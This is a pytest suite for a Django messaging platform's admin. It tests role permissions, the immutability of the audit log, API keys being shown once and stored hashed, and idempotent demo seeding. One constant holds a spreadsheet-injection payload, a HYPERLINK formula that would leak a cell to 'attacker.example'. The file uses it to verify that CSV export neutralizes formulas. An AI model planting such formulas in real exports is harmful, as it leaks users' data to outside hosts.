"""The admin: every page opens, read-only rows stay read-only, the audit export is safe and
audited, API keys are shown once, and the demo data loads once however often it is run."""
import csv
import io
import json

import pytest
import tablib
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.test import RequestFactory
from django.urls import reverse

from campaigns.models import Campaign, Enrollment, Journey, JourneyStatus, JourneyStep
from channels.models import (
    Conversation,
    Delivery,
    DeliveryEvent,
    InboundMessage,
    Message,
    MessageSource,
    OutboxMessage,
)
from omni import audit
from omni.models import AuditEntry
from compliance.models import (
    Consent,
    ConsentChange,
    ConsentStatus,
    FrequencyCap,
    QuietHours,
    SendLedger,
    Suppression,
)
from contacts.models import Contact, ContactEvent
from contacts.resources import ContactResource
from omni.models import ApiKey, ApiScope
from omni.tests.admin_pages import change_form_data
from templates.models import Template, TemplateVariant, TemplateVersion

pytestmark = pytest.mark.django_db

REGISTERED_MODELS = sorted(admin.site._registry, key=lambda model: model._meta.label)
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'


def admin_url(model, view, *args):
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{view}", args=args)


@pytest.fixture
def demo(settings, tmp_path):
    """The `make run` demo data, with its logins file in a temporary VAR_DIR; returns the output."""
    settings.VAR_DIR = tmp_path
    out = io.StringIO()
    call_command("seed_demo", stdout=out)
    return out.getvalue()


@pytest.fixture
def message_trail(demo):
    """One message with a delivery, a provider event, a sandbox copy and a reply, for Bob."""
    bob = Contact.objects.get(external_id="demo-bob")
    message = Message.objects.create(
        contact=bob, purpose="marketing", template_version=TemplateVersion.objects.first(),
        channel_plan=[{"channel": "email"}], source=MessageSource.JOURNEY,
    )
    delivery = Delivery.objects.create(message=message, contact=bob, channel="email", provider="sandbox",
                                       to_address=bob.email, subject="Welcome, Bob!", provider_message_id="sbx-1")
    DeliveryEvent.objects.create(delivery=delivery, provider="sandbox", provider_event_id="sbx-1-delivered",
                                 provider_message_id="sbx-1", event_type="delivered", recipient=bob.email)
    OutboxMessage.objects.create(delivery=delivery, channel="email", to_address=bob.email, subject="Welcome, Bob!",
                                 text_body="Hi Bob", provider_message_id="sbx-1", simulated_outcome="delivered")
    conversation = Conversation.objects.get(contact=bob, channel="sms")  # the demo's question opened it
    InboundMessage.objects.create(contact=bob, conversation=conversation, channel="sms", provider="sandbox",
                                  provider_message_id="in-1", from_address=bob.phone, body="Thanks!")
    SendLedger.objects.create(contact_id=bob.pk, channel="email", purpose="marketing", message_id=message.pk,
                              at=message.created_at)
    QuietHours.objects.create(name="Nights", start="21:00", end="08:00", region="US-FL")
    FrequencyCap.objects.create(name="Three a day", limit=3, lifecycle_stages=["trial"])
    return message


@pytest.fixture
def staff_client(client, django_user_model):
    """Logs the test client in as a new staff user of one role group."""

    def login(group_name: str):
        user = django_user_model.objects.create_user(username=f"test-{group_name.lower().replace(' ', '-')}",
                                                     password="not-used", is_staff=True)
        user.groups.add(Group.objects.get(name=group_name))
        client.force_login(user)
        return client

    return login


def exported_rows(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


# --- every page ------------------------------------------------------------------------------

@pytest.mark.parametrize("model", REGISTERED_MODELS, ids=lambda model: model._meta.label)
def test_every_admin_page_opens_for_a_superuser(message_trail, admin_client, admin_user, model):
    # given
    model_admin = admin.site._registry[model]
    request = RequestFactory().get("/")
    request.user = admin_user

    # when
    changelist = admin_client.get(admin_url(model, "changelist"))
    add = admin_client.get(admin_url(model, "add"))
    first = model._default_manager.first()
    change = admin_client.get(admin_url(model, "change", first.pk)) if first else None

    # then
    assert changelist.status_code == 200
    assert add.status_code == (200 if model_admin.has_add_permission(request) else 403)
    if change is not None:
        assert change.status_code == 200

    # and saved unchanged, an empty add form is refused with the page again, and a row as it is
    # saves: never a server error
    changeable = first is not None and model_admin.has_change_permission(request, first)
    for url, shown, expected in [(admin_url(model, "add"), add, (200, 302)),
                                 (changeable and admin_url(model, "change", first.pk), change if changeable else None,
                                  (302,))]:
        if shown is None or shown.status_code != 200 or "adminform" not in shown.context:
            continue  # not offered, or a page of its own (a button, a wizard)
        response = admin_client.post(url, change_form_data(shown))
        assert response.status_code in expected, (url, response.status_code, _form_errors(response))


@pytest.mark.parametrize("group_name", ["Marketers", "Support agents", "Compliance"])  # approvers change nothing
def test_every_form_a_role_may_change_posted_back_as_shown_answers_without_a_server_error(
        message_trail, staff_client, group_name):
    # given a member of the role, and every change page of a first row they may open
    client = staff_client(group_name)
    user = client.get(reverse("admin:index")).wsgi_request.user
    request = RequestFactory().get("/")
    request.user = user
    posted = 0
    for model in REGISTERED_MODELS:
        model_admin = admin.site._registry[model]
        first = model._default_manager.first()
        if first is None or not model_admin.has_change_permission(request, first):
            continue
        url = admin_url(model, "change", first.pk)
        shown = client.get(url)
        if shown.status_code != 200 or "adminform" not in shown.context:
            continue

        # when they save it as it is
        response = client.post(url, change_form_data(shown))
        posted += 1

        # then it is saved as it was: nothing they did not type is refused
        assert response.status_code == 302, (url, response.status_code, _form_errors(response))
    assert posted


def _form_errors(response) -> list:
    if response.status_code != 200 or "adminform" not in (response.context or {}):
        return []
    return [response.context["adminform"].form.errors,
            *(form.errors for inline in response.context["inline_admin_formsets"] for form in inline.formset.forms
              if form.errors)]


def test_read_only_rows_offer_no_add_page(admin_user):
    read_only = {AuditEntry, Consent, ConsentChange, ContactEvent, Enrollment, TemplateVersion, Message, Delivery,
                 DeliveryEvent, InboundMessage, OutboxMessage}
    request = RequestFactory().get("/")
    request.user = admin_user

    offered = {model for model in read_only if admin.site._registry[model].has_add_permission(request)}

    assert offered == set()


@pytest.mark.parametrize("query, expected", [
    ("alice", {"demo-alice"}),
    ("bob@example.com", {"demo-bob"}),
    ("+14155550103", {"demo-carol"}),
    ("demo-dave", {"demo-dave"}),
    ("Evans", {"demo-erin"}),
])
def test_contact_search_finds_by_email_phone_external_id_and_name(demo, admin_client, query, expected):
    response = admin_client.get(admin_url(Contact, "changelist"), {"q": query})

    found = {contact.external_id for contact in response.context["cl"].result_list}
    assert response.status_code == 200
    assert found == expected


def test_the_contact_page_shows_consents_and_recent_events(demo, admin_client):
    erin = Contact.objects.get(external_id="demo-erin")

    response = admin_client.get(admin_url(Contact, "change", erin.pk))

    content = response.content.decode()
    assert response.status_code == 200
    assert "Opted out" in content  # her SMS marketing consent
    assert "signed_up" in content


# --- the audit log -----------------------------------------------------------------------------

def test_audit_entries_cannot_be_changed_or_deleted_even_by_a_superuser(admin_client):
    entry = audit.record("message.suppressed", reason="no_marketing_consent")

    page = admin_client.get(admin_url(AuditEntry, "change", entry.pk))
    post = admin_client.post(admin_url(AuditEntry, "change", entry.pk), {"action": "tampered"})
    delete = admin_client.post(admin_url(AuditEntry, "delete", entry.pk), {"post": "yes"})
    add = admin_client.get(admin_url(AuditEntry, "add"))

    assert page.status_code == 200
    assert 'name="_save"' not in page.content.decode()
    assert (post.status_code, delete.status_code, add.status_code) == (403, 403, 403)
    assert AuditEntry.objects.get(pk=entry.pk).action == "message.suppressed"


def test_the_audit_export_neutralizes_spreadsheet_formulas_and_is_itself_audited(admin_client, admin_user):
    # given
    entry = audit.record("consent.changed", reason=FORMULA, data={"note": "+1 untrusted"})
    audit.record("message.sent", reason="ok")

    # when: the "Export CSV" button, with the changelist filtered to one action
    response = admin_client.get(reverse("admin:omni_auditentry_export"), {"action__exact": "consent.changed"})

    # then
    rows = exported_rows(response)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    assert [row["id"] for row in rows] == [str(entry.pk)]
    assert rows[0]["reason"] == "'" + FORMULA
    assert json.loads(rows[0]["data"]) == {"note": "+1 untrusted"}
    exported = AuditEntry.objects.get(action="audit.exported")
    assert exported.actor_id == admin_user.pk
    assert exported.data["rows"] == 1


def test_the_export_action_streams_the_chosen_entries(admin_client):
    chosen = audit.record("journey.enrolled", reason="@SUM(1+1)")
    audit.record("journey.enrolled", reason="not chosen")

    response = admin_client.post(admin_url(AuditEntry, "changelist"),
                                 {"action": "export_csv", "_selected_action": [chosen.pk]})

    rows = exported_rows(response)
    assert [(row["id"], row["reason"]) for row in rows] == [(str(chosen.pk), "'@SUM(1+1)")]
    assert AuditEntry.objects.filter(action="audit.exported").count() == 1


def test_compliance_staff_can_export_the_audit_log(staff_client):
    audit.record("message.sent", reason="-2+3")
    client = staff_client("Compliance")

    response = client.get(reverse("admin:omni_auditentry_export"))

    assert response.status_code == 200
    assert [row["reason"] for row in exported_rows(response)] == ["'-2+3"]
    assert b"Export CSV" in client.get(admin_url(AuditEntry, "changelist")).content


@pytest.mark.parametrize("group_name", ["Support agents", "Marketers"])
def test_other_roles_cannot_export_the_audit_log(staff_client, group_name):
    entry = audit.record("message.sent", reason="ok")
    client = staff_client(group_name)

    button = client.get(reverse("admin:omni_auditentry_export"))
    action = client.post(admin_url(AuditEntry, "changelist"), {"action": "export_csv", "_selected_action": [entry.pk]})

    assert button.status_code == 403
    assert action.status_code == 403
    assert not AuditEntry.objects.filter(action="audit.exported").exists()


# --- API keys ----------------------------------------------------------------------------------

def test_creating_an_api_key_shows_the_raw_key_once_and_stores_only_its_hash(admin_client, admin_user):
    # when
    response = admin_client.post(
        admin_url(ApiKey, "add"), {"name": "Shop backend", "scopes": [ApiScope.EVENTS_WRITE, ApiScope.CONTACTS_WRITE]},
        follow=True,
    )

    # then
    key = ApiKey.objects.get()
    shown = [str(m) for m in response.context["messages"] if "omni_" in str(m)]
    assert len(shown) == 1
    raw_key = next(word for word in shown[0].split() if word.startswith("omni_"))
    assert ApiKey.authenticate(raw_key) == key
    assert key.key_hash == ApiKey.hash_key(raw_key)
    assert key.scopes == [ApiScope.EVENTS_WRITE, ApiScope.CONTACTS_WRITE]
    assert key.created_by == admin_user
    secret = raw_key.split("_", 2)[2]
    assert all(secret not in str(value) for value in ApiKey.objects.values().get().values())
    assert secret not in admin_client.get(admin_url(ApiKey, "changelist")).content.decode()
    assert secret not in admin_client.get(admin_url(ApiKey, "change", key.pk)).content.decode()
    assert audit.for_object(key).filter(action="apikey.created").exists()


def test_revoking_keys_stops_them_working(admin_client):
    key, raw_key = ApiKey.generate("Old integration", [ApiScope.EVENTS_WRITE])

    admin_client.post(admin_url(ApiKey, "changelist"), {"action": "revoke_keys", "_selected_action": [key.pk]})

    key.refresh_from_db()
    assert key.revoked_at is not None
    assert ApiKey.authenticate(raw_key) is None
    assert audit.for_object(key).filter(action="apikey.revoked").count() == 1


def test_renaming_a_key_whose_page_was_read_before_it_was_revoked_keeps_it_revoked(rf, admin_user, admin_client):
    key, raw_key = ApiKey.generate("Old integration", [ApiScope.EVENTS_WRITE])
    key_admin = admin.site._registry[ApiKey]
    request = rf.post(admin_url(ApiKey, "change", key.pk))
    request.user = admin_user
    edited = ApiKey.objects.get(pk=key.pk)
    form = key_admin.get_form(request, edited, change=True)(
        {"name": "Old CRM", "scopes": [ApiScope.EVENTS_WRITE]}, instance=edited)
    assert form.is_valid(), form.errors
    # meanwhile another administrator revokes it
    admin_client.post(admin_url(ApiKey, "changelist"), {"action": "revoke_keys", "_selected_action": [key.pk]})

    key_admin.save_model(request, form.save(commit=False), form, change=True)

    key.refresh_from_db()
    assert key.name == "Old CRM" and key.revoked_at is not None
    assert ApiKey.authenticate(raw_key) is None


# --- compliance, templates and journeys through the admin -------------------------------------------

def test_adding_a_suppression_goes_through_the_audited_action(demo, admin_client):
    dave = Contact.objects.get(external_id="demo-dave")

    response = admin_client.post(admin_url(Suppression, "add"), {
        "address": "(415) 555-0199", "channel": "sms", "purpose": "", "reason": "manual",
        "detail": "asked on the phone", "contact": dave.pk,
    })

    suppression = Suppression.objects.get()
    assert response.status_code == 302
    assert suppression.address == "+14155550199"
    assert audit.for_object(suppression).filter(action="suppression.added", actor_label="admin").exists()


def test_a_suppression_is_lifted_with_an_audit_entry(demo, staff_client):
    client = staff_client("Compliance")
    client.post(admin_url(Suppression, "add"), {"address": "Bob@Example.com", "channel": "email", "reason": "manual"})
    suppression = Suppression.objects.get(address="bob@example.com")

    client.post(admin_url(Suppression, "changelist"),
                {"action": "lift_suppressions", "_selected_action": [suppression.pk], "why": "asked by phone"})

    assert not Suppression.objects.exists()
    assert AuditEntry.objects.filter(action="suppression.lifted", object_id=str(suppression.pk)).exists()


def test_publishing_reports_a_broken_template_and_publishes_nothing(admin_client):
    template = Template.objects.create(key="broken", name="Broken")
    TemplateVariant.objects.create(template=template, channel="sms", text_body="Hi {{ first_name ")

    response = admin_client.post(admin_url(Template, "changelist"),
                                 {"action": "publish_new_version", "_selected_action": [template.pk]}, follow=True)

    errors = [str(m) for m in response.context["messages"] if m.level_tag == "error"]
    assert len(errors) == 1 and "broken" in errors[0]
    assert not template.versions.exists()


def test_publishing_makes_a_new_version(demo, admin_client):
    template = Template.objects.get(key="welcome-sms")

    admin_client.post(admin_url(Template, "changelist"),
                      {"action": "publish_new_version", "_selected_action": [template.pk]})

    assert list(template.versions.values_list("number", flat=True).order_by("number")) == [1, 2]


def test_pausing_and_resuming_a_journey_from_the_admin(demo, admin_client):
    journey = Journey.objects.get(slug="welcome")
    changelist = admin_url(Journey, "changelist")

    admin_client.post(changelist, {"action": "pause", "_selected_action": [journey.pk]})
    paused = Journey.objects.get(pk=journey.pk).status
    admin_client.post(changelist, {"action": "resume", "_selected_action": [journey.pk]})

    assert paused == JourneyStatus.PAUSED
    assert Journey.objects.get(pk=journey.pk).status == JourneyStatus.ACTIVE
    assert list(audit.for_object(journey).values_list("action", flat=True).order_by("id")) == [
        "journey.activated", "journey.paused", "journey.resumed",
    ]


def test_compliance_staff_see_journeys_but_cannot_change_them(demo, staff_client):
    journey = Journey.objects.get(slug="welcome")
    client = staff_client("Compliance")

    page = client.get(admin_url(Journey, "change", journey.pk))
    post = client.post(admin_url(Journey, "change", journey.pk), {"name": "Hijacked"})
    pause = client.post(admin_url(Journey, "changelist"), {"action": "pause", "_selected_action": [journey.pk]})

    assert page.status_code == 200
    assert 'name="_save"' not in page.content.decode()
    assert post.status_code == 403
    assert pause.status_code == 200  # the changelist again: the action is not offered
    assert Journey.objects.get(pk=journey.pk).name == "Welcome"
    assert Journey.objects.get(pk=journey.pk).status == JourneyStatus.ACTIVE


def test_a_marketer_can_change_a_contact_and_a_support_agent_cannot(demo, staff_client):
    bob = Contact.objects.get(external_id="demo-bob")

    marketer_page = staff_client("Marketers").get(admin_url(Contact, "change", bob.pk))
    support_page = staff_client("Support agents").get(admin_url(Contact, "change", bob.pk))

    assert 'name="_save"' in marketer_page.content.decode()
    assert support_page.status_code == 200
    assert 'name="_save"' not in support_page.content.decode()


def test_editing_a_contact_in_the_admin_is_audited_with_the_changed_fields(demo, admin_client):
    bob = Contact.objects.get(external_id="demo-bob")
    page = admin_client.get(admin_url(Contact, "change", bob.pk))
    form = page.context["adminform"].form
    data = {name: form[name].value() for name in form.fields if form[name].value() is not None}
    data["last_name"] = "Builder"
    for inline in page.context["inline_admin_formsets"]:
        management = inline.formset.management_form
        data.update({f"{inline.formset.prefix}-{key}": management[key].value() for key in management.fields})

    response = admin_client.post(admin_url(Contact, "change", bob.pk), data)

    assert response.status_code == 302, response.content.decode()[:2000]
    entry = AuditEntry.objects.filter(action="contact.updated", contact_id=bob.pk).latest("id")
    assert entry.data == {"fields": ["last_name"]} and entry.actor_label == "admin"


def test_pausing_a_contact_from_the_admin_is_audited(demo, admin_client):
    bob = Contact.objects.get(external_id="demo-bob")

    admin_client.post(admin_url(Contact, "changelist"), {"action": "pause_messaging", "_selected_action": [bob.pk]})

    bob.refresh_from_db()
    assert bob.messaging_paused
    assert AuditEntry.objects.filter(action="contact.paused", contact_id=bob.pk).count() == 1


# --- contact import ----------------------------------------------------------------------------

@pytest.mark.parametrize("group_name, may_import, may_export", [
    ("Marketers", True, True), ("Support agents", False, False), ("Compliance", True, False)])
def test_only_people_who_may_change_contacts_can_import_or_export_them(staff_client, group_name, may_import,
                                                                       may_export):
    # Importing needs contacts.add_contactimport (Compliance imports consent with contacts).
    client = staff_client(group_name)

    import_page = client.get(reverse("admin:contacts_contact_import"))
    export_page = client.get(reverse("admin:contacts_contact_export"))

    assert import_page.status_code == (200 if may_import else 403)
    assert export_page.status_code == (200 if may_export else 403)


def test_contact_import_normalizes_phones_and_rejects_a_bad_one():
    dataset = tablib.Dataset(headers=["external_id", "email", "phone", "country", "first_name"])
    dataset.append(["crm-1", "Frank@Example.com", "(415) 555-0106", "US", "Frank"])
    dataset.append(["crm-2", "gina@example.com", "12345", "", "Gina"])

    result = ContactResource().import_data(dataset, dry_run=False, raise_errors=False)

    assert result.has_validation_errors()
    [invalid] = result.invalid_rows
    assert "phone" in invalid.field_specific_errors
    # django-import-export refuses the whole file when a row is invalid
    assert not Contact.objects.exists()

    dataset.pop()
    result = ContactResource().import_data(dataset, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    assert Contact.objects.values_list("external_id", "email", "phone").get() == (
        "crm-1", "frank@example.com", "+14155550106",
    )


# --- demo data ---------------------------------------------------------------------------------

def counts():
    return {model._meta.label: model.objects.count() for model in (
        Contact, ContactEvent, Consent, ConsentChange, Template, TemplateVariant, TemplateVersion, Journey,
        JourneyStep, Campaign, Group, AuditEntry,
    )} | {"users": get_user_model().objects.count()}


def test_seed_demo_twice_creates_each_object_once(settings, tmp_path):
    settings.VAR_DIR = tmp_path
    call_command("seed_demo", stdout=io.StringIO())
    first = counts()
    logins = json.loads((tmp_path / "demo-logins.json").read_text())

    out = io.StringIO()
    call_command("seed_demo", stdout=out)

    assert counts() == first
    assert first["contacts.Contact"] == 6  # five customers and Tess, the test contact
    # a sign-up each, Bob's question (inbound.replied), Alice's failed payment, Erin's booking, Carol's activation
    assert first["contacts.ContactEvent"] == 9
    assert first["campaigns.JourneyStep"] == 16  # Welcome 6, Payment failed 4, Appointment reminder 6
    assert first["message_templates.TemplateVersion"] == 7
    assert first["users"] == 5  # admin, marketer, support, compliance, approver
    assert json.loads((tmp_path / "demo-logins.json").read_text()) == logins
    assert all(password in out.getvalue() for password in logins.values())
    assert "http://127.0.0.1:8000/admin/" in out.getvalue()


def test_the_demo_journey_is_active_and_wired_as_documented(demo):
    journey = Journey.objects.get(slug="welcome")
    steps = {step.key: step for step in JourneyStep.objects.filter(journey=journey)}

    assert journey.status == JourneyStatus.ACTIVE
    assert (journey.trigger_type, journey.trigger_event) == ("event", "signed_up")
    assert [s.key for s in sorted(steps.values(), key=lambda s: s.position)] == [
        "welcome-email", "await-activation", "welcome-whatsapp", "until-day-7", "welcome-sms", "done",
    ]
    assert steps["welcome-email"].next_step == steps["await-activation"]
    assert steps["await-activation"].next_step == steps["done"]
    assert steps["await-activation"].else_step == steps["welcome-whatsapp"]
    assert steps["welcome-sms"].next_step == steps["done"]
    erin = Contact.objects.get(external_id="demo-erin")
    assert erin.consents.get(channel="sms", purpose="marketing").status == ConsentStatus.REVOKED
    assert erin.consents.get(channel="email", purpose="marketing").status == ConsentStatus.GRANTED


def test_the_demo_logins_work(demo, client, settings):
    logins = json.loads((settings.VAR_DIR / "demo-logins.json").read_text())

    for username, password in logins.items():
        client.post("/admin/login/?next=/admin/", {"username": username, "password": password})
        assert client.get("/admin/").status_code == 200, username
        client.post("/admin/logout/")


def test_contact_import_reads_national_phones_with_the_rows_or_the_stored_country():
    # given a contact whose country is known, and a file with a lower-case country column
    Contact.objects.create(external_id="crm-9", country="GB")
    dataset = tablib.Dataset(headers=["external_id", "phone", "country"])
    dataset.append(["crm-1", "(415) 555-0106", "us"])
    dataset.append(["crm-9", "020 7946 0018", ""])

    result = ContactResource().import_data(dataset, dry_run=False)

    assert not result.has_errors() and not result.has_validation_errors()
    assert dict(Contact.objects.values_list("external_id", "phone")) == {"crm-1": "+14155550106",
                                                                       "crm-9": "+442079460018"}


# --- list pages with many rows ------------------------------------------------------------------

ROWS = 60
# Whatever the number of rows: session, user, count, page, filters' choices... A page that
# runs a query per row blows far past it with 60 rows.
LIST_PAGE_MAX_QUERIES = 20


@pytest.fixture
def many_rows(demo):
    """ROWS contacts, each with a message, a delivery, a provider event, a sandbox copy, a
    conversation with a reply, an enrollment at a step, consent, a suppression, a device and a
    send ledger row; as many quiet hours and frequency caps."""
    from django.utils import timezone

    from campaigns.models import EnrollmentState
    from compliance.actions import record_consent_change, suppress
    from contacts.models import Device

    journey = Journey.objects.get(slug="welcome")
    version = TemplateVersion.objects.first()
    for index in range(ROWS):
        contact = Contact.objects.create(external_id=f"many-{index}", email=f"many{index}@example.com",
                                         phone=f"+1415555{index:04d}")
        message = Message.objects.create(contact=contact, purpose="marketing", template_version=version,
                                         channel_plan=[{"channel": "email"}], source=MessageSource.JOURNEY)
        delivery = Delivery.objects.create(message=message, contact=contact, channel="email", provider="sandbox",
                                           to_address=contact.email, provider_message_id=f"many-{index}")
        DeliveryEvent.objects.create(delivery=delivery, provider="sandbox", provider_event_id=f"many-{index}",
                                     provider_message_id=f"many-{index}", event_type="delivered")
        OutboxMessage.objects.create(delivery=delivery, channel="email", to_address=contact.email,
                                     provider_message_id=f"many-{index}", simulated_outcome="delivered")
        conversation = Conversation.objects.create(contact=contact, channel="sms")
        InboundMessage.objects.create(contact=contact, conversation=conversation, channel="sms", provider="sandbox",
                                      provider_message_id=f"many-{index}", from_address=contact.phone,
                                      body="Thanks!", in_reply_to=delivery)
        Enrollment.objects.create(journey=journey, journey_version=journey.live_version, contact=contact,
                                  current_step_key="short-wait", state=EnrollmentState.ACTIVE,
                                  next_run_at=timezone.now())
        ContactEvent.objects.create(contact=contact, name="signed_up", idempotency_key=f"many-{index}")
        record_consent_change(contact, "email", "marketing", "granted", "form")
        suppress(contact.phone, channel="sms", reason="stop", contact=contact)
        Device.objects.create(contact=contact, platform="ios", token=f"token-{index}")
        SendLedger.objects.create(contact_id=contact.pk, channel="email", purpose="marketing", message_id=message.pk,
                                  at=timezone.now())
        QuietHours.objects.create(name=f"Nights {index}", start="21:00", end="08:00", country="US")
        FrequencyCap.objects.create(name=f"Cap {index}", limit=3, lifecycle_stages=["trial", "lead"])


def test_every_list_page_makes_a_bounded_number_of_queries_with_many_rows(many_rows, admin_client):
    # One test over every registered model, so the rows are built once.
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    queries = {}
    for model in REGISTERED_MODELS:
        with CaptureQueriesContext(connection) as captured:
            response = admin_client.get(admin_url(model, "changelist"))
        assert response.status_code == 200, model._meta.label
        queries[model._meta.label] = len(captured)

    assert {label: n for label, n in queries.items() if n > LIST_PAGE_MAX_QUERIES} == {}


def test_the_admin_offers_no_delete_for_contacts_not_even_to_a_superuser(admin_client):
    ann = Contact.objects.create(external_id="ann", email="ann@example.com")

    page = admin_client.get(admin_url(Contact, "change", ann.pk))
    refused = admin_client.post(admin_url(Contact, "delete", ann.pk), {"post": "yes"})

    assert page.status_code == 200 and b"deletelink" not in page.content
    assert refused.status_code == 403 and Contact.objects.filter(pk=ann.pk).exists()


def test_compliance_staff_read_the_gates_decisions(client, django_user_model):
    from compliance.models import Decision

    user = django_user_model.objects.create_user(username="cora", password="pw", is_staff=True)
    user.groups.add(Group.objects.get(name="Compliance"))
    Decision.objects.create(message_id=5, contact_id=None, channel="sms", purpose="marketing", outcome="suppress",
                            reason="opted_out", consent_status="revoked", digest="0" * 64)
    client.force_login(user)

    response = client.get(reverse("admin:compliance_decision_changelist"))

    assert response.status_code == 200 and b"opted_out" in response.content
